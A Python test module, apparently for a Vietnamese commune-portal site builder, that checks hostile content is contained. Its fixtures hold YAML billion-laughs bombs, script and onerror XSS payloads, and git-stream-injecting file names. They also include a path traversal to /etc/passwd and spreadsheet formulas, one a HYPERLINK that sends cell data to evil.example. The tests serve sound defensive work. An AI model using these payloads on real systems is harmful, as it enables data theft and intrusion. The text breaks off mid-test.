"""Hostile content (issue 15): what one commune's files contain may not crash, hang or slow the province's build,
reach another commune or the provincial site, inject anything into a page, feed, JSON, CSV, XLSX, CI log or the
publishing branch, or read files outside its folder.

One province is built (and checked) once for most classes: a complete commune holding every hostile file of the
corpus (``tests/corpus/``, the HOSTILE table) and many more written below, a clean commune beside it, and folders
named like the provincial index's own. Faults, publishing and rollback build provinces of their own.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path, PurePosixPath

import pytest

from fixtures import DONG_HAI, HON_DA_BAC, JPEG, PDF, TAN_THANH, communes
from helpers import ROOT, TODAY, commune_files, git, manifest, read, repositories, scratch_province, walk, write_tree
from trangxa.build.release import output_lock
from trangxa.read.names import unsafe
from trangxa.runs import build, check

CORPUS = Path(__file__).with_name("corpus")

# corpus file, where it goes in the commune, the findings it must give there (rule, line), published as a page?
HOSTILE = [
    ("yaml-brackets.md", "tin-tuc/yaml-brackets.md", {("yaml-too-deep", 2)}, False),  # libyaml: SIGSEGV
    ("yaml-dashes.yml", "van-ban/yaml-dashes.yml", {("yaml-too-deep", 1)}, False),  # libyaml: SIGSEGV
    ("yaml-billion-laughs.md", "tin-tuc/yaml-billion-laughs.md", {("yaml-alias", 3)}, False),  # 9⁹ nodes
    ("yaml-self-alias.md", "tin-tuc/yaml-self-alias.md", {("yaml-alias-loop", 2)}, False),  # RecursionError
    ("yaml-nul-escape.yml", "van-ban/yaml-nul-escape.yml", {("yaml-control-char", 5)}, False),  # embedded null
    ("yaml-ansi-escape.md", "tin-tuc/yaml-ansi-escape.md", {("yaml-control-char", 2)}, False),  # a terminal's
    ("md-brackets.md", "tin-tuc/md-brackets.md", set(), True),  # 16 KB of nested [ ]( : 19 s, now linear
    ("md-recursion.md", "tin-tuc/md-recursion.md", {("markdown-too-complex", 5)}, True),  # RecursionError
    ("md-divs.md", "tin-tuc/md-divs.md", {("markdown-too-complex", 5)}, True),  # 50,000 <div>: minutes in nh3
]

UNSAFE_NAMES = {  # file → bytes: each a name ghp-import would write into git fast-import's stream as commands
    'tin-tuc/w\ndata 0\nM 100644 inline index.html\n#.vtt': b"WEBVTT\n\n",
    'van-ban/"index.html" x.pdf': PDF,
    "tin-tuc/\x1b[31mdo.jpg": JPEG,
    "tin-tuc/dong\rmoi.md": "---\ntieu_de: Tin\nngay_dang: 19/11/2026\n---\n",
    "tin-tuc/thu\u2028muc/a.pdf": PDF,
}

EVIL = "evil.example"
NEWS_INJECTION = f"""\
---
tieu_de: "<script>alert(1)</script> Tin ]]> có mã"
ngay_dang: 19/11/2026
tom_tat: "<img src=x onerror=alert(1)>]]></summary><script>alert(2)</script>"
---
Ảnh ngoài: ![theo dõi](https://{EVIL}/t.png) và <img src="//{EVIL}/u.png" alt="u">.

<video controls poster="https://{EVIL}/p.jpg"><source src="https://{EVIL}/v.mp4"><track src="https://{EVIL}/c.vtt"></video>

<iframe src="https://www.youtube-nocookie.com/embed/abc123" allow="camera; microphone; geolocation; autoplay"></iframe>
"""

FORMULAS = """\
so_ky_hieu: 99/QĐ-UBND
loai_van_ban: Quyết định
co_quan_ban_hanh: "@SUM(1+1)*cmd|' /C calc'!A0"
nguoi_ky: "+1+1"
chuc_vu_nguoi_ky: "-2+3"
ngay_ban_hanh: 17/11/2026
tinh_trang_hieu_luc: Còn hiệu lực
trich_yeu: '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào")'
linh_vuc: "\\t=1+1"
tep: [99-qd.pdf, ../../../../../../../etc/passwd, ../../phuong-dong-hai/van-ban/112-qd-ubnd.pdf]
ngay_dang: 18/11/2026
"""

DATES = {
    "tin-tuc/ngay-9999.md": "---\ntieu_de: Tin năm 9999\nngay_dang: 31/12/9999\n---\n",
    "tin-tuc/ngay-0001.md": "---\ntieu_de: Tin năm 1\nngay_dang: 01/01/0001\n---\n",
    "tin-tuc/ngay-1945.md": "---\ntieu_de: Tin trước Cách mạng\nngay_dang: 01/09/1945\n---\n",
    "tin-tuc/ngay-2030.md": "---\ntieu_de: Tin đăng trước\nngay_dang: 20/11/2030\n---\n",
    "tin-tuc/ngay-ok.md": "---\ntieu_de: Tin cũ hợp lệ\nngay_dang: 02/09/1945\n---\n",
}

PERSONAL = {
    "tin-tuc/nguoi-dan.md": "---\ntieu_de: Tin có số cá nhân\nngay_dang: 19/11/2026\n---\n"
                            "Ông A (CCCD 079 203 001 234.) gọi +84 912 345 679 hoặc (091) 234-5680.\n",
    "hoi-dap/cau-hoi.yml": "cau_hoi: Xin hỏi, gọi lại giúp tôi số 0912-345-682.\nngay_hoi: 18/11/2026\n",
    "van-ban/cccd-079203001234.pdf": PDF,
}


def hostile_files() -> dict:
    files = {**communes(TAN_THANH, DONG_HAI, HON_DA_BAC)}
    for name, place, _, _ in HOSTILE:
        files[f"xa-tan-thanh/{place}"] = (CORPUS / name).read_bytes()
    files.update({f"xa-tan-thanh/{rel}": content for rel, content in UNSAFE_NAMES.items()})
    files.update({f"xa-tan-thanh/{rel}": content for rel, content in {**DATES, **PERSONAL}.items()})
    files["xa-tan-thanh/tin-tuc/ma-doc.md"] = NEWS_INJECTION
    files["xa-tan-thanh/van-ban/99-qd.yml"] = FORMULAS
    files["xa-tan-thanh/van-ban/99-qd.pdf"] = PDF
    # the other commune's picture, uploaded where the theme's favicon is written (it went through a hard link)
    files["xa-tan-thanh/theme/img/favicon.png"] = files["phuong-dong-hai/tin-tuc/ra-quan.jpg"]
    # the đặc khu declares the phường's domain
    files["dac-khu-hon-da-bac/commune.yml"] = files["dac-khu-hon-da-bac/commune.yml"].replace(
        "dackhuhondabac.minhhai.gov.vn", "phuongdonghai.minhhai.gov.vn")
    for name in ("bao-cao", "tim-kiem", "theme", "pagefind", "tinh-trang", "trang", "Xa_Sai", "xa moi", "index.html"):
        files.update({f"{name}/{rel.split('/', 1)[1]}": text for rel, text in commune_files("xa-gia", "Xã Giả").items()})
        files[f"{name}/tin-tuc/gia.md"] = "---\ntieu_de: Trang giả mạo\nngay_dang: 19/11/2026\n---\nGiả mạo.\n"
    return files


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile province, built and checked once: (options, build result, check result, seconds to build)."""
    root = tmp_path_factory.mktemp("hostile")
    options = replace(scratch_province(root, hostile_files()), jobs=2)
    outside = write_tree(root / "ngoai", {**{f"xa-ngoai/{k.split('/', 1)[1]}": v for k, v in
                                            commune_files("xa-ngoai", "Xã Ngoài").items()},
                                         "xa-ngoai/tin-tuc/bi-mat.md": "---\ntieu_de: Bí mật\nngay_dang: 19/11/2026\n---\n",
                                         "secret.txt": "mật khẩu"})
    (options.communes_dir / "xa-lien-ket").symlink_to(outside / "xa-ngoai")
    (options.communes_dir / "xa-ban-sao").symlink_to(options.communes_dir / "xa-tan-thanh")
    started = time.monotonic()
    result = build(options)
    seconds = time.monotonic() - started
    return options, result, check(options), seconds


def findings_at(result, file: str) -> set[tuple[str, int | None]]:
    return {(f.rule, f.line) for f in result.findings if f.file == file}


# --- Parser denial of service -----------------------------------------------------------------------------------

@pytest.mark.parametrize("name, place, expected, published", HOSTILE, ids=[case[0] for case in HOSTILE])
def test_each_hostile_file_gives_its_located_finding_and_the_build_goes_on(hostile, name, place, expected, published):
    options, result, checked, _ = hostile
    assert findings_at(result, f"xa-tan-thanh/{place}") == expected
    page = options.output / "xa-tan-thanh" / PurePosixPath(place).parent / PurePosixPath(place).stem / "index.html"
    assert page.is_file() is published
    assert {site.name for site in result.communes if site.built} >= {"xa-tan-thanh", "phuong-dong-hai"}


def test_check_reports_what_build_reports_on_the_hostile_province(hostile):
    _, result, checked, _ = hostile
    key = lambda f: (f.commune, f.file, f.line, f.rule, f.message)  # noqa: E731
    assert sorted(map(key, (f for site in result.communes for f in site.findings))) == sorted(
        map(key, (f for commune in checked for f in commune.findings)))


def test_pathological_markdown_is_published_as_plain_text(hostile):
    options, _, _, _ = hostile
    page = read(options.output, "xa-tan-thanh/tin-tuc/md-divs/index.html")
    assert "&lt;div&gt;" in page and page.count("<div") < 100
    assert "Đoạn đầu vẫn hiện đúng." in read(options.output, "xa-tan-thanh/tin-tuc/md-brackets/index.html")


def test_markdown_with_nested_brackets_stays_linear():
    from trangxa.read.markdown import render_checked

    def cpu(text: str) -> float:
        started = time.process_time()
        html, problems = render_checked(text)
        assert problems == [] and html.startswith("<p>")
        return time.process_time() - started

    for unit in ("[", "[](", "[a](", "![", "[[", "](", "<a ", "*a", "\\*"):
        small, large = cpu(unit * (16_000 // len(unit))), cpu(unit * (128_000 // len(unit)))
        assert large < 1.5 and large < 16 * small + 0.1, (unit, small, large)  # 8 × the text: ~8 × the time


def test_markdown_that_runs_out_of_time_is_flattened_then_plain():
    from trangxa.read.markdown import Clock, render_checked

    clock = Clock(seconds=0.05, after=0.01, strikes=1)
    started = time.process_time()
    html, problems = render_checked("a\n: b\n" * 10_000, 7, clock)  # definition lists: recursion, then plain
    assert [(p.rule, p.line) for p in problems] == [("markdown-too-complex", 7)]
    assert html.startswith("<p>a<br>: b") and clock.expired >= 1 and clock.limit == 0.01
    assert time.process_time() - started < 3


def test_yaml_is_bounded_before_libyaml_sees_it():
    from trangxa.law.findings import ProblemError
    from trangxa.read.sources import MAX_DEPTH, load_mapping

    assert load_mapping("a: " + "[" * (MAX_DEPTH - 1) + "]" * (MAX_DEPTH - 1)).data["a"]  # as deep as allowed
    for text in ("a: " + "[" * (MAX_DEPTH + 1), "- " * 50_000 + "a", "a: " + "{b: " * 50_000,
                 "\n".join(" " * level + "- a:" for level in range(0, 200, 2))):
        with pytest.raises(ProblemError) as err:
            load_mapping(text)
        assert err.value.problem.rule == "yaml-too-deep"


def test_aliases_are_refused_in_content_and_bounded_in_the_provinces_files():
    from trangxa.law.findings import ProblemError
    from trangxa.read.sources import MAX_NODES, load_mapping

    reused = "a: &x {b: 1}\nc: *x\n"
    assert load_mapping(reused, aliases=True).data == {"a": {"b": "1"}, "c": {"b": "1"}}  # profiles use them
    with pytest.raises(ProblemError) as err:
        load_mapping(reused)
    assert (err.value.problem.rule, err.value.problem.line) == ("yaml-alias", 2)
    laughs = "a: &a [" + ",".join(["x"] * 20) + "]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 20)}]\n" for i in range(4))
    with pytest.raises(ProblemError) as err:
        load_mapping(laughs, aliases=True)  # 20⁵ values: stopped at MAX_NODES
    assert err.value.problem.rule == "yaml-too-large" and 20 ** 5 > MAX_NODES
    with pytest.raises(ProblemError) as err:
        load_mapping("a: &t [*t]\n", aliases=True)
    assert err.value.problem.rule == "yaml-alias-loop"


def test_the_profile_loader_still_reads_anchors(tmp_path):
    from trangxa.law.loading import load_profile

    profile = load_profile("nd224-2026")  # disclosure categories share their rules through an anchor (&disclosure)
    assert profile.category("cong-khai/thu-hoi-dat").rules == profile.category("cong-khai/du-an-dau-tu").rules != {}


def test_a_process_that_asks_for_too_much_memory_fails_alone():
    from trangxa.build.workers import run_each

    def greedy(size: int, progress):
        progress("tin-tuc/lon.md")
        return len(bytearray(size))

    results = run_each([1 << 20, 4 << 30], greedy, lambda task, why: why, jobs=2, timeout=60, memory=1 << 30)
    assert results[0] == 1 << 20
    assert results[1].kind == "crashed" and "MemoryError" in results[1].detail and results[1].file == "tin-tuc/lon.md"


def test_check_and_build_of_the_hostile_province_end_in_bounded_time_and_memory(hostile, tmp_path):
    """The command line, as CI runs it: a located finding for each file, exit 1 (errors), no traceback; the
    seconds and the largest process's memory are the bounds README states."""
    options, _, _, build_seconds = hostile
    probe = ("import resource, subprocess, sys, time; t = time.monotonic(); "
             "p = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
             "print(p.returncode, round(time.monotonic() - t, 1), "
             "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024); "
             "sys.stdout.write(p.stdout); sys.stderr.write(p.stderr)")
    command = [sys.executable, "-c", probe, sys.executable, "-m", "trangxa", "check", "--communes-dir",
               str(options.communes_dir), "--province", str(options.province_path()), "--as-of", TODAY.isoformat(),
               "--format", "github", "--jobs", "2"]
    done = subprocess.run(command, capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=str(ROOT / "plugins")),
                          timeout=600)
    code, seconds, megabytes = done.stdout.split("\n", 1)[0].split()
    assert code == "1" and "Traceback" not in done.stderr
    assert float(seconds) < 120 and int(megabytes) < 600, (seconds, megabytes)
    assert build_seconds < 300
    annotations = done.stdout.split("\n", 1)[1]
    assert "yaml-too-deep" in annotations and "file=" in annotations


# --- Publishing-branch injection ---------------------------------------------------------------------------------

def test_unsafe_file_names_are_refused_at_build_time_and_never_published(hostile):
    options, result, _, _ = hostile
    refused = {f.file for f in result.findings if f.rule == "unsafe-file-name"}
    assert refused == {"xa-tan-thanh/tin-tuc/w\\ndata 0\\nM 100644 inline index.html\\n#.vtt",
                       'xa-tan-thanh/van-ban/"index.html" x.pdf', "xa-tan-thanh/tin-tuc/\\x1b[31mdo.jpg",
                       "xa-tan-thanh/tin-tuc/dong\\rmoi.md", "xa-tan-thanh/tin-tuc/thu\\u2028muc/a.pdf"}
    assert [path for path in walk(options.output) if unsafe(path.relative_to(options.output).as_posix())] == []


def test_the_publishing_branch_gets_the_real_files_only(hostile, tmp_path):
    from trangxa.build.publish import push

    options, _, _, _ = hostile
    bare, work = repositories(tmp_path)
    push(options.output, work, "gh-pages", "origin", "Xuất bản")
    tree = git("ls-tree", "-r", "-z", "--name-only", "gh-pages", cwd=bare).split("\0")
    assert [name for name in tree if unsafe(name)] == []
    assert git("show", "gh-pages:index.html", cwd=bare) == read(options.output, "index.html")
    assert git("show", "gh-pages:xa-tan-thanh/index.html", cwd=bare) == read(options.output, "xa-tan-thanh/index.html")


@pytest.mark.parametrize("name", ['w\ndata 0\nM 100644 inline index.html\n#.vtt', '"index.html', "a\rb.txt",
                                  "thu-muc\x1b/a.txt"])
def test_publish_refuses_a_tree_that_still_holds_an_unsafe_path(tmp_path, name):
    from trangxa.build.publish import PublishError, push

    site = write_tree(tmp_path / "site", {"index.html": "<p>Trang của tỉnh</p>", name: "kẻ gian"})
    bare, work = repositories(tmp_path)
    with pytest.raises(PublishError) as err:
        push(site, work, "gh-pages", "origin", "Xuất bản")
    assert "ký tự điều khiển" in str(err.value)
    assert git("branch", "--list", cwd=bare) == ""  # nothing was pushed


# --- Write and read isolation ------------------------------------------------------------------------------------

def test_folders_named_like_the_provincial_pages_are_refused_and_overwrite_nothing(hostile):
    options, result, _, _ = hostile
    refused = {(f.file, f.rule) for f in result.findings if f.rule.startswith("commune-")}
    assert refused == {("bao-cao/", "commune-slug-reserved"), ("tim-kiem/", "commune-slug-reserved"),
                       ("theme/", "commune-slug-reserved"), ("pagefind/", "commune-slug-reserved"),
                       ("tinh-trang/", "commune-slug-reserved"), ("trang/", "commune-slug-reserved"),
                       ("Xa_Sai/", "commune-slug-invalid"), ("xa moi/", "commune-slug-invalid"),
                       ("index.html/", "commune-slug-invalid"), ("xa-lien-ket/", "commune-folder-link"),
                       ("xa-ban-sao/", "commune-folder-link")}
    assert "Trang giả mạo" not in "".join(path.read_text(encoding="utf-8") for path in walk(options.output, "*.html"))
    assert not (options.output / "tim-kiem" / "trangxa.json").exists() and (options.output / "tim-kiem/index.html").is_file()
    assert "Tỉnh Thử Nghiệm" in read(options.output, "index.html")
    for name in ("Xa_Sai", "xa moi", "xa-lien-ket", "xa-ban-sao", "bao-cao/tin-tuc"):
        assert not (options.output / name).exists()
    home = read(options.output, "index.html")
    assert "xa-lien-ket" not in home and "Xa_Sai" not in home and "Xã Giả" not in home


def test_every_top_level_name_the_index_writes_is_reserved(hostile):
    from trangxa.config.commune import RESERVED, SLUG

    options, result, _, _ = hostile
    communes_built = {site.name for site in result.communes}
    for entry in options.output.iterdir():
        if entry.name not in communes_built:
            assert entry.name in RESERVED or not SLUG.match(entry.name), entry.name


def test_nothing_outside_the_communes_folder_is_published(hostile):
    options, _, _, _ = hostile
    everything = "".join(path.read_text(encoding="utf-8", errors="replace") for path in walk(options.output)
                         if path.suffix in (".html", ".xml", ".json", ".csv", ".txt"))
    assert "Bí mật" not in everything and "mật khẩu" not in everything and "root:x:0:0" not in everything


def test_registry_exports_derive_nothing_from_a_refused_path(hostile):
    options, result, _, _ = hostile
    rows = json.loads(read(options.output, "xa-tan-thanh/van-ban/van-ban.json"))
    files = next(row["tep"] for row in rows if row.get("so_ky_hieu") == "99/QĐ-UBND")
    assert files[0]["url"] == "van-ban/99-qd.pdf" and files[0]["kich_thuoc"] == len(PDF)
    assert [(f["url"], f["kich_thuoc"]) for f in files[1:]] == [(None, None), (None, None)]
    rows = list(csv.DictReader(io.StringIO(read(options.output, "xa-tan-thanh/van-ban/van-ban.csv").lstrip("\ufeff"))))
    listed = next(row["tep"] for row in rows if row["so_ky_hieu"] == "99/QĐ-UBND")
    assert listed == "van-ban/99-qd.pdf; " + "; ".join(FORMULAS.split("tep: [")[1].split("]")[0].split(", ")[1:])
    assert {("file-outside", 10)} <= findings_at(result, "xa-tan-thanh/van-ban/99-qd.yml")


def test_a_commune_file_never_writes_through_into_the_picture_cache(hostile):
    options, result, _, _ = hostile
    assert ("unknown-folder", None) in findings_at(result, "xa-tan-thanh/theme/img/favicon.png")
    theme_icon = (ROOT / "themes/trangxa/static/img/favicon.png").read_bytes()
    assert (options.output / "xa-tan-thanh/theme/img/favicon.png").read_bytes() == theme_icon
    cache = options.cache_path()
    cached = [path for path in walk(cache) if path.suffix in (".jpg", ".webp", ".png") and "jinja" not in path.parts]
    assert cached and all(path.stat().st_mode & 0o222 == 0 for path in cached)  # read-only
    published = [path for path in walk(options.output) if path.suffix in (".jpg", ".webp", ".png")]
    inodes = {path.stat().st_ino for path in cached}
    assert not [path for path in published if path.stat().st_ino in inodes]  # copies, never links


def test_writing_a_published_picture_leaves_the_cache_as_it_was(tmp_path):
    from trangxa_media.images import ImageStats, publish

    source = tmp_path / "anh.jpg"
    source.write_bytes(JPEG)
    cache, output = tmp_path / "cache", tmp_path / "site"
    picture = publish(source, "tin-tuc/anh.jpg", output, cache, ImageStats())
    before = {path: path.read_bytes() for path in walk(cache)}
    for rendition in picture.renditions:
        with (output / "tin-tuc" / rendition.name).open("r+b") as handle:  # as Pelican's theme copy did
            handle.write(b"ghi de")
    assert {path: path.read_bytes() for path in walk(cache)} == before


def test_two_communes_with_one_domain_are_both_told_and_get_no_cname(hostile):
    from trangxa.cli import _domains

    options, result, checked, _ = hostile
    told = sorted((f.file, f.line) for f in result.findings if f.rule == "duplicate-domain")
    assert told == [("dac-khu-hon-da-bac/commune.yml", 4), ("phuong-dong-hai/commune.yml", 4)]
    assert sorted((f.file, f.line) for c in checked for f in c.findings if f.rule == "duplicate-domain") == told
    domains = _domains(options.output.resolve(), "https://xa.thunghiem.gov.vn")
    assert "phuong-dong-hai" not in domains and "dac-khu-hon-da-bac" not in domains
    assert domains["xa-tan-thanh"] == "xatanthanh.minhhai.gov.vn"


def test_a_domain_equal_to_the_provinces_own_is_a_duplicate():
    from trangxa.config.commune import duplicate_domains

    problems = duplicate_domains([("xa-a", "XA.thunghiem.gov.vn.", 4), ("xa-b", "xab.thunghiem.gov.vn", 4)],
                                 "https://xa.thunghiem.gov.vn")
    assert list(problems) == ["xa-a"] and problems["xa-a"].params["other"] == "cổng thông tin của tỉnh"


# --- Injection into other formats --------------------------------------------------------------------------------

class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)


def tags_in(html: str) -> list[str]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def test_every_atom_feed_field_is_escaped_or_sanitised(hostile):
    options, _, _, _ = hostile
    atom = "{http://www.w3.org/2005/Atom}"
    for feed in ("xa-tan-thanh/feeds/atom.xml", "xa-tan-thanh/tin-tuc/atom.xml"):
        root = ET.fromstring(read(options.output, feed))  # well-formed: nothing broke out of its element
        entry = next(e for e in root.iter(f"{atom}entry") if "có mã" in e.find(f"{atom}title").text)
        assert tags_in(entry.find(f"{atom}title").text) == []
        assert tags_in(entry.find(f"{atom}summary").text) == []  # type="html": its text is HTML, of text only
        content = entry.find(f"{atom}content").text
        assert "onerror" not in content and "<script" not in content and EVIL not in content
        for other in root.iter(f"{atom}content"):  # nothing on another host loads from any entry
            assert not re.search(r"(?:src|poster|srcset)=\S*" + re.escape(EVIL), other.text or "")


def test_the_sanitiser_drops_remote_media_and_frame_permissions(hostile):
    options, result, _, _ = hostile
    page = read(options.output, "xa-tan-thanh/tin-tuc/ma-doc/index.html")
    assert EVIL not in page and "camera" not in page and "microphone" not in page
    assert 'allow="autoplay"' in page and "youtube-nocookie.com/embed/abc123" in page
    warned = findings_at(result, "xa-tan-thanh/tin-tuc/ma-doc.md")
    assert {("unsafe-html", 6), ("unsafe-html", 8), ("unsafe-html", 10)} <= warned


@pytest.mark.parametrize("html, kept", [
    ('<img src="https://evil.example/t.png" alt="t">', ""),
    ('<img src="//evil.example/t.png" alt="t">', ""),
    ('<img src="anh.jpg" alt="t">', '<img src="anh.jpg" alt="t">'),
    ('<video poster="http://evil.example/p.jpg" controls></video>', '<video controls=""></video>'),
    ('<video><source src="https://evil.example/v.mp4"><track src="x.vtt"></video>', '<video><track src="x.vtt"></video>'),
    ('<iframe src="https://www.youtube-nocookie.com/embed/a" allow="camera *; geolocation; fullscreen"></iframe>',
     '<iframe src="https://www.youtube-nocookie.com/embed/a" allow="fullscreen"></iframe>'),
])
def test_remote_media_and_dangerous_frame_features(html, kept):
    from trangxa.read.sanitize import clean

    assert clean(html) == kept


def test_spreadsheet_cells_never_start_a_formula(hostile):
    options, _, _, _ = hostile
    rows = list(csv.reader(io.StringIO(read(options.output, "xa-tan-thanh/van-ban/van-ban.csv").lstrip("\ufeff"))))
    header = rows[0]
    row = next(r for r in rows[1:] if "99/QĐ-UBND" in r)
    cells = dict(zip(header, row))
    assert cells["trich_yeu"].startswith("'=HYPERLINK") and cells["co_quan_ban_hanh"].startswith("'@SUM")
    assert cells["nguoi_ky"] == "'+1+1" and cells["chuc_vu_nguoi_ky"] == "'-2+3"
    assert cells["linh_vuc"] == "'=1+1"  # "\t=1+1": the tab was stripped when read, the formula neutralised
    for r in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r), r


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("＝1+1", "'＝1+1"), ("Xã Tân Thành", "Xã Tân Thành"), ("", ""),
    (5, 5), (-3, -3), (87.5, 87.5), (None, None),
])
def test_the_neutralising_helper(value, safe):
    from trangxa.spreadsheets import safe_cell

    assert safe_cell(value) == safe


def test_the_report_csv_and_xlsx_keep_text_as_text_and_numbers_as_numbers(tmp_path):
    from openpyxl import load_workbook

    from trangxa.aggregate.report import Quarter
    from trangxa.runs import report

    files = communes(TAN_THANH, DONG_HAI)
    files["xa-tan-thanh/commune.yml"] = files["xa-tan-thanh/commune.yml"].replace(
        "ten: Xã Tân Thành", "ten: \"=HYPERLINK(\\\"https://evil.example\\\")\"")
    options = scratch_province(tmp_path, files)
    report(options, Quarter.parse("2026Q3"))
    folder = options.output / "bao-cao" / "2026Q3"
    text = (folder / "bao-cao-2026Q3.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and not re.search(r'(^|,)"?=', text, re.M)
    book = load_workbook(folder / "bao-cao-2026Q3.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    hostile_cells = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert hostile_cells and all(cell.data_type == "s" for cell in hostile_cells)
    assert not [cell for cell in cells if cell.data_type == "f"]
    rows = [[cell.value for cell in row] for row in book["Tổng hợp"].iter_rows()]
    header = next(number for number, row in enumerate(rows) if "Điểm" in row)
    scores = [row[rows[header].index("Điểm")] for row in rows[header + 1:]]
    assert len(scores) == 2 and all(isinstance(score, int) for score in scores)  # the two communes' scores


def test_ci_output_carries_no_command_and_no_terminal_escape(hostile):
    from trangxa.formats import format_github, format_json, format_text

    _, result, _, _ = hostile
    findings = result.findings
    github = format_github(findings)
    assert "\r" not in github and all(line.startswith(("::error ", "::warning ")) for line in github.split("\n"))
    assert "%0A" in github or "\\n" in github  # the file name with newlines is there, escaped
    text = format_text(findings)
    assert "\x1b" not in text and "\r" not in text and "\u2028" not in text
    assert all(not line.startswith("::") for line in text.split("\n"))
    assert "\x1b" not in format_json(findings)


def test_workflow_command_escaping_follows_the_runners_rules():
    from trangxa.formats import escape_data, escape_property

    assert escape_data("50%\r\n::error::x") == "50%25%0D%0A::error::x"
    assert escape_property("a:b,c%\n") == "a%3Ab%2Cc%25%0A"


@pytest.mark.parametrize("value", ["a\r::error::giả", "a\n::stop-commands::x", "\x1b[2J\x1b]8;;http://e\x07x", "a%0Ab",
                                   "a,b:c", "\u2028::warning::x", "\x9b31mx"])
def test_workflow_commands_and_text_escape_every_value(value):
    from trangxa.formats import format_github, format_text
    from trangxa.law.findings import Finding

    finding = Finding("xa-a", f"xa-a/{value}.md", 3, 1, "bad-choice", "error", f"Giá trị {value}", f"Sửa {value}")
    github = format_github([finding])
    assert github.count("\n") == 0 and "\r" not in github and github.startswith("::error file=communes/xa-a/")
    place = github.split("::")[1]
    assert place.count(",") == 2 and ":" not in place.split("=", 1)[1]  # file=…,line=3,title=…
    assert "\x1b" not in github and "\x9b" not in github and "\u2028" not in github
    text = format_text([finding])
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", text)
    assert all(not line.lstrip().startswith("::") for line in text.split("\n"))


# --- Personal data -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("line, minimise, expected", [
    ("CCCD 079 203 001 234", False, ["personal-id"]),
    ("số 079.203.001.234 của ông A", False, ["personal-id"]),
    ("số 079-203-001-234", False, ["personal-id"]),
    ("định danh 079203001234.", False, ["personal-id"]),
    ("CMND số 123456789", False, ["personal-id"]),
    ("| 1 | Nguyễn A | 023 456 789 |", False, []),  # a 9-digit number with no word nor column saying ID
    ("gọi +84 912 345 679", True, ["personal-phone"]),
    ("gọi 0912-345-682", True, ["personal-phone"]),
    ("gọi (091) 234-5680", True, ["personal-phone"]),
    ("liên hệ qua số 0950 000 063.", True, ["personal-phone"]),
    ("năm 2006 0950 000 018", True, ["personal-phone"]),
    ("gọi 0912 345 679", False, []),  # a mobile counts only where the rules ask to minimise
    ("tong_thu: 128650000000", True, []),  # an amount: an ID begins with 0 (its province code, 001–096)
    ("số tài khoản 115000123456", True, []),
    ("số tài khoản 012345678901 tại Agribank", True, []),
    ("tổng 128.650.000.000 đồng; 126.300.000 đồng", True, []),
    ("Quyết định 05/QĐ-UBND ngày 17/11/2026; Nghị quyết 05-NQ/ĐU", True, []),
    ("điện thoại 0294 3822 100", True, []),  # a landline
    ("đường dây nóng của Ủy ban nhân dân phường (số 0950 111 226)", True, []),
])
def test_personal_data_patterns(line, minimise, expected):
    from trangxa.read.personal import personal_data

    assert [problem.rule for problem in personal_data(line, minimise)] == expected


def test_ids_in_a_table_column_headed_so():
    from trangxa.read.personal import personal_data

    table = "| STT | Họ tên | Số CMND | Điện thoại |\n|---|---|---|---|\n| 1 | Nguyễn A | 023456789 | 0950 000 017 |\n"
    assert [(p.rule, p.line, p.column) for p in personal_data(table, True)] == [
        ("personal-id", 3, 18), ("personal-phone", 3, 30)]


def test_personal_data_in_news_qa_and_file_names_is_located(hostile):
    _, result, _, _ = hostile
    assert findings_at(result, "xa-tan-thanh/tin-tuc/nguoi-dan.md") == {("personal-id", 5), ("personal-phone", 5)}
    assert findings_at(result, "xa-tan-thanh/hoi-dap/cau-hoi.yml") == {("personal-phone", 1)}
    assert findings_at(result, "xa-tan-thanh/van-ban/cccd-079203001234.pdf") == {("personal-id-file-name", None)}
    assert [f for f in result.findings if f.rule.startswith("personal") and f.commune == "phuong-dong-hai"] == []
    messages = " ".join(f.message for f in result.findings if f.rule.startswith("personal"))
    assert "912" not in messages and "079" not in messages.replace("cccd-079203001234.pdf", "")


def test_the_communes_own_numbers_are_not_personal(tmp_path):
    from trangxa.law.loading import load_profile
    from trangxa.read.items import read_commune

    root = write_tree(tmp_path / "xa", {
        "lien-he/index.yml": "tieu_de: Liên hệ\ndia_chi: Số 1\ndien_thoai: 0290 3831 000\nemail: a@b.gov.vn\n"
                             "dau_moi_ho_ten: Lê Cường\nmang_xa_hoi: [\"Đường dây nóng: 0950 111 226\"]\n",
        "tin-tuc/a.md": "---\ntieu_de: A\nngay_dang: 19/11/2026\n---\nGọi xã: 0950 111 226 hoặc 0912 000 111, "
                        "trưởng ấp: 0912 345 678.\n",
    })
    reading = read_commune(root, load_profile("nd224-2026"), own=("0912 000 111",))
    news = next(item for item in reading.items if item.rel == "tin-tuc/a.md")
    assert [(p.rule, p.column) for p in news.problems if p.rule == "personal-phone"] == [("personal-phone", 52)]


def test_the_realistic_corpus_has_no_personal_data_false_alarm_and_finds_p10(tmp_path):
    from trangxa.options import BuildOptions

    realistic = ROOT / "tests/fixtures/realistic"
    options = BuildOptions(communes_dir=realistic / "communes", province_file=realistic / "province.yml",
                           output=tmp_path / "output", as_of=TODAY, jobs=2)
    found = sorted((f.file.split("/", 1)[1], f.line, f.rule) for c in check(options) for f in c.findings
                   if f.rule.startswith("personal"))
    call_up = "cong-khai/nghia-vu-quan-su/goi-nhap-ngu-2026.yml"
